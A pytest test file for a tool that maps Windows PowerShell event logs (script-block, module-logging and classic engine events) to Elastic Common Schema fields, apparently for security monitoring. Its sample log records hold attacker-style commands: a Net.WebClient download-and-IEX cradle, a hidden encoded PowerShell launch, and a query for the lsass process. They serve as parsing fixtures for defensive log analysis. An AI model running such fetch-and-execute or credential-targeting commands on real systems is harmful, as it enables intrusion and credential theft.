"""PowerShell channels to ECS (windows.powershell_operational / windows.powershell pipelines)."""

from __future__ import annotations

import base64
import copy
import hashlib
import re
from typing import Any

import pytest

from vigil.ecs.windows import to_ecs
from vigil.ecs.windows.powershell import map_powershell_classic, map_powershell_operational
from vigil.ecs.windows.security_helpers import (
    apply_time_created,
    es_fingerprint_sha1,
    java_long_decode,
    java_split,
    java_trim,
    painless_ws_split,
)

OPERATIONAL = "Microsoft-Windows-PowerShell/Operational"
CLASSIC = "Windows PowerShell"
HOST_ID = "0f32a2f5-6a51-4b35-8f4a-0c7e0b6a7d11"
RUNSPACE = "5e4b0c8e-23f5-4a3e-9b9d-8d1f3a0d5c22"


def powershell(channel: str, eid: int, data: dict[str, Any] | None, **winlog: Any) -> dict[str, Any]:
    """A Winlogbeat 8.x raw PowerShell document, mapped for Elastic Agent."""
    provider = "Microsoft-Windows-PowerShell" if channel == OPERATIONAL else "PowerShell"
    raw: dict[str, Any] = {
        "@timestamp": "2024-05-01T10:00:00.000Z",
        "event": {"code": str(eid), "kind": "event", "provider": provider},
        "host": {"name": "ws01"},
        "log": {"level": "information"},
        "winlog": {
            "channel": channel,
            "computer_name": "ws01.corp.local",
            "event_id": str(eid),
            "provider_name": provider,
            "record_id": 4242,
            "level": "information",
            **winlog,
        },
    }
    if data is not None:
        raw["winlog"]["event_data"] = data
    return to_ecs(raw)


def expected_hash(text: str) -> str:
    squeezed = "".join(c for c in text if c not in " \t\n\x0b\f\r")
    return base64.b64encode(hashlib.sha1(b"\x00" + squeezed.encode()).digest()).decode()


def test_4104_script_block() -> None:
    text = "  $c = New-Object Net.WebClient\r\n$c.DownloadString('http://x/a.ps1') | IEX\r\n"
    doc = powershell(
        OPERATIONAL,
        4104,
        {
            "MessageNumber": "1",
            "MessageTotal": "1",
            "ScriptBlockText": text,
            "ScriptBlockId": "d4c3b2a1-1111-2222-3333-444455556666",
            "Path": "C:\\Users\\bob\\Downloads\\a.ps1",
        },
        user={"identifier": "S-1-5-21-1-2-3-1106", "type": "User"},
    )
    ps = doc["powershell"]
    trimmed = text.strip()
    assert ps["file"]["script_block_text"] == trimmed
    assert ps["file"]["script_block_id"] == "d4c3b2a1-1111-2222-3333-444455556666"
    assert ps["file"]["script_block_hash"] == expected_hash(trimmed)
    assert ps["sequence"] == 1 and ps["total"] == 1
    assert doc["file"] == {
        "path": "C:\\Users\\bob\\Downloads\\a.ps1",
        "name": "a.ps1",
        "directory": "C:\\Users\\bob\\Downloads",
        "extension": "ps1",
    }
    assert doc["event"]["category"] == "process" and doc["event"]["type"] == "info"
    assert doc["event"]["code"] == "4104" and doc["event"]["module"] == "powershell"
    assert doc["user"]["id"] == "S-1-5-21-1-2-3-1106"
    assert "event_data" not in doc["winlog"]  # everything was moved or was empty
    assert "level" not in doc["winlog"] and doc["log"]["level"] == "information"
    assert doc["winlog"]["record_id"] == "4242"
    assert doc["data_stream"]["dataset"] == "windows.powershell_operational"


def test_4104_interactive_block_and_signature() -> None:
    signed = "# SIG # Begin signature block\n# MIIbAAYJ\n# KoZIhvc\n# SIG # End signature block"
    doc = powershell(
        OPERATIONAL,
        4104,
        {
            "MessageNumber": "3",
            "MessageTotal": "3",
            "ScriptBlockText": signed,
            "ScriptBlockId": "x",
            "Path": "",
        },
    )
    assert "file" not in doc
    assert doc["powershell"]["file"]["script_block_signature"] == "MIIbAAYJKoZIhvc\n"
    assert doc["powershell"]["sequence"] == 3
    plain = powershell(OPERATIONAL, 4104, {"ScriptBlockText": "whoami", "ScriptBlockId": "y"})
    assert "script_block_signature" not in plain["powershell"]["file"]


CONTEXT_INFO = (
    "        Severity = Informational\n"
    "        Host Name = ConsoleHost\n"
    "        Host Version = 5.1.17763.1\n"
    f"        Host ID = {HOST_ID}\n"
    "        Host Application = C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -c "
    '"$a=1; iex $a"\n'
    "        Engine Version = 5.1.17763.1\n"
    f"        Runspace ID = {RUNSPACE}\n"
    "        Pipeline ID = 1\n"
    "        Command Name = Invoke-Expression\n"
    "        Command Type = Cmdlet\n"
    "        Script Name = \n"
    "        Command Path = \n"
    "        Sequence Number = 16\n"
    "        User = CORP\\bob\n"
    "        Connected User = \n"
    "        Shell ID = Microsoft.PowerShell\n"
)
PAYLOAD = (
    'CommandInvocation(Invoke-Expression): "Invoke-Expression"\n'
    'ParameterBinding(Invoke-Expression): name="Command"; value="whoami"\n'
    "NonTerminatingError(Get-Item): \n"
    "free text without a command\n"
)


def test_4103_module_logging() -> None:
    doc = powershell(OPERATIONAL, 4103, {"ContextInfo": CONTEXT_INFO, "UserData": "", "Payload": PAYLOAD})
    assert doc["process"]["entity_id"] == HOST_ID and doc["process"]["title"] == "ConsoleHost"
    command_line = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -c "$a=1; iex $a"'
    assert doc["process"]["command_line"] == command_line
    assert doc["process"]["args"] == [
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "-nop",
        "-c",
        "$a=1; iex $a",
    ]
    assert doc["process"]["args_count"] == 4
    assert doc["user"] == {"domain": "CORP", "name": "bob"} and doc["related"]["user"] == ["bob"]
    ps = doc["powershell"]
    assert ps["id"] == "Microsoft.PowerShell" and ps["pipeline_id"] == "1" and ps["runspace_id"] == RUNSPACE
    assert ps["engine"]["version"] == "5.1.17763.1"
    assert ps["process"]["executable_version"] == "5.1.17763.1"
    assert ps["command"]["name"] == "Invoke-Expression" and ps["command"]["type"] == "Cmdlet"
    assert ps["command"]["invocation_details"] == [
        {"type": "CommandInvocation", "related_command": "Invoke-Expression", "value": '"Invoke-Expression"'},
        {
            "type": "ParameterBinding",
            "related_command": "Invoke-Expression",
            "name": '"Command"',
            "value": '"whoami"',
        },
        {"type": "NonTerminatingError", "related_command": "Get-Item"},
        {"value": "free text without a command"},
    ]
    assert doc["event"]["sequence"] == 16
    assert "event_data" not in doc["winlog"]


def test_4103_remote_session_user() -> None:
    context = CONTEXT_INFO.replace("Connected User = \n", "Connected User = CORP\\admin\n")
    doc = powershell(OPERATIONAL, 4103, {"ContextInfo": context, "Payload": ""})
    assert doc["source"]["user"] == {"domain": "CORP", "name": "admin"}
    assert doc["destination"]["user"] == {"domain": "CORP", "name": "bob"}
    assert doc["user"] == {"domain": "CORP", "name": "admin"}
    assert doc["related"]["user"] == ["bob", "admin"]


@pytest.mark.parametrize(("eid", "event_type"), [(4105, "start"), (4106, "end")])
def test_4105_4106_script_block_start_stop(eid: int, event_type: str) -> None:
    doc = powershell(OPERATIONAL, eid, {"ScriptBlockId": "d4c3b2a1", "RunspaceId": RUNSPACE})
    assert doc["event"]["type"] == event_type
    assert doc["powershell"]["file"]["script_block_id"] == "d4c3b2a1"
    assert doc["powershell"]["runspace_id"] == RUNSPACE


ENGINE_400 = (
    "\tNewEngineState=Available\n\tPreviousEngineState=None\n\n\tSequenceNumber=13\n\n"
    "\tHostName=ConsoleHost\n\tHostVersion=5.1.17763.1\n\tHostId=b1d5c6a0-0000-4000-8000-000000000001\n"
    "\tHostApplication=powershell.exe -nop -w hidden -enc SQBFAFgA\n\tEngineVersion=5.1.17763.1\n"
    f"\tRunspaceId={RUNSPACE}\n\tPipelineId=\n\tCommandName=\n\tCommandType=\n\tScriptName=\n"
    "\tCommandPath=\n\tCommandLine="
)


@pytest.mark.parametrize(("eid", "event_type"), [(400, "start"), (403, "end")])
def test_classic_engine_state(eid: int, event_type: str) -> None:
    params = {"param1": "Available", "param2": "None", "param3": ENGINE_400}
    if eid == 403:
        params["param3"] = ENGINE_400.replace("NewEngineState=Available", "NewEngineState=Stopped")
    doc = powershell(CLASSIC, eid, params)
    assert doc["event"]["type"] == event_type and doc["event"]["category"] == "process"
    assert doc["powershell"]["engine"]["previous_state"] == "None"
    assert doc["powershell"]["engine"]["version"] == "5.1.17763.1"
    assert doc["process"]["command_line"] == "powershell.exe -nop -w hidden -enc SQBFAFgA"
    assert doc["process"]["args"] == ["powershell.exe", "-nop", "-w", "hidden", "-enc", "SQBFAFgA"]
    assert doc["process"]["entity_id"] == "b1d5c6a0-0000-4000-8000-000000000001"
    assert doc["event"]["sequence"] == 13
    assert "event_data" not in doc["winlog"]
    assert doc["data_stream"]["dataset"] == "windows.powershell"


def test_classic_600_provider_state() -> None:
    param3 = (
        "\tProviderName=Registry\n\tNewProviderState=Started\n\n\tSequenceNumber=1\n\n"
        "\tHostName=ConsoleHost\n\tHostApplication=powershell.exe\n\tCommandLine="
    )
    doc = powershell(CLASSIC, 600, {"param1": "Registry", "param2": "Started", "param3": param3})
    assert doc["powershell"]["provider"] == {"name": "Registry", "new_state": "Started"}
    assert doc["event"]["type"] == "info"


def test_classic_800_pipeline_execution() -> None:
    param2 = (
        "\tDetailSequence=1\n\tDetailTotal=1\n\n\tSequenceNumber=15\n\n\tUserId=CORP\\bob\n"
        "\tHostName=ConsoleHost\n\tHostVersion=5.1.17763.1\n\tHostId=b1d5c6a0\n"
        "\tHostApplication=powershell.exe -File C:\\scripts\\a.ps1\n\tEngineVersion=5.1.17763.1\n"
        f"\tRunspaceId={RUNSPACE}\n\tPipelineId=3\n\tScriptName=C:\\scripts\\a.ps1\n"
        "\tCommandLine=Get-Process -Name lsass"
    )
    param3 = (
        'CommandInvocation(Get-Process): "Get-Process"\n'
        'ParameterBinding(Get-Process): name="Name"; value="lsass"\n'
    )
    doc = powershell(
        CLASSIC, 800, {"param1": "Get-Process -Name lsass\n", "param2": param2, "param3": param3}
    )
    ps = doc["powershell"]
    assert ps["total"] == 1 and ps["sequence"] == 1 and doc["event"]["sequence"] == 15
    assert ps["pipeline_id"] == "3" and ps["command"]["value"] == "Get-Process -Name lsass"
    assert ps["command"]["invocation_details"][1] == {
        "type": "ParameterBinding",
        "related_command": "Get-Process",
        "name": '"Name"',
        "value": '"lsass"',
    }
    assert doc["user"] == {"domain": "CORP", "name": "bob"}
    assert doc["file"] == {
        "path": "C:\\scripts\\a.ps1",
        "name": "a.ps1",
        "directory": "C:\\scripts",
        "extension": "ps1",
    }
    assert "event_data" not in doc["winlog"]


def test_classic_value_with_equals_and_newlines() -> None:
    param3 = '\tNewEngineState=Available\n\tHostApplication=powershell -c "a=b\nc\td=e"\n\tEngineVersion=5.1'
    doc = powershell(CLASSIC, 400, {"param3": param3})
    # Everything up to the next "\tKey=" belongs to the value (a tab-led "d=" inside starts a key).
    assert doc["process"]["command_line"] == 'powershell -c "a=b\nc'
    assert doc["winlog"]["event_data"] == {"d": 'e"'}


@pytest.mark.parametrize("mapper", [map_powershell_operational, map_powershell_classic])
@pytest.mark.parametrize(
    "doc",
    [
        {},
        {"winlog": None},
        {"winlog": {"event_id": "4103", "event_data": {"ContextInfo": "no equals\n="}}},
        {"winlog": {"event_id": 800, "event_data": {"param2": 5, "param3": ["x"]}}},
        {
            "winlog": {
                "event_id": "4104",
                "event_data": {"ScriptBlockText": 7, "Path": None, "MessageNumber": "x"},
            }
        },
        {
            "winlog": {
                "event_id": "4103",
                "event_data": {"ContextInfo": "User = a\\b\\c", "Payload": "P(x): "},
            }
        },
        {"winlog": {"event_id": "400", "event_data": {"param3": "no keys at all"}, "time_created": "bad"}},
    ],
)
def test_odd_documents_never_raise(mapper: Any, doc: dict[str, Any]) -> None:
    mapper(copy.deepcopy(doc))


# --------------------------------------------------------------------------- Java-semantics helpers
# (shared with the Security mapping)


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("0x1c0", 448),
        ("0X1C0", 448),
        ("#10", 16),
        ("010", 8),
        ("0", 0),
        ("-0x10", -16),
        ("+7", 7),
        ("49823", 49823),
        ("0x", None),
        ("", None),
        ("12a", None),
        ("0x-1", None),
        ("08", None),
        ("0xffffffffffffffff", None),
    ],
)
def test_java_long_decode(text: str, value: int | None) -> None:
    assert java_long_decode(text) == value


def test_string_helpers() -> None:
    assert java_trim("\x00 a b\u00a0\n") == "a b\u00a0"
    assert painless_ws_split("  a \t b  ") == ["a", "b", ""]
    assert painless_ws_split("") == [""]
    comma = re.compile(r"(?<!\\),")
    assert java_split(comma, "a,b,,") == ["a", "b"]
    assert java_split(comma, "") == [""]
    assert java_split(comma, ",a") == ["", "a"]


def test_time_created_and_fingerprint() -> None:
    doc: dict[str, Any] = {"winlog": {"time_created": "2024-05-01T10:00:01.1234567Z"}}
    apply_time_created(doc)
    assert doc["@timestamp"] == "2024-05-01T10:00:01.123Z"
    offset: dict[str, Any] = {"winlog": {"time_created": "2024-05-01T12:00:01+02:00"}}
    apply_time_created(offset)
    assert offset["@timestamp"] == "2024-05-01T12:00:01.000+02:00"
    kept: dict[str, Any] = {"@timestamp": "x", "winlog": {"time_created": "not a date"}}
    apply_time_created(kept)
    assert kept["@timestamp"] == "x"
    assert base64.b64decode(es_fingerprint_sha1("abc")) == hashlib.sha1(b"\x00abc").digest()
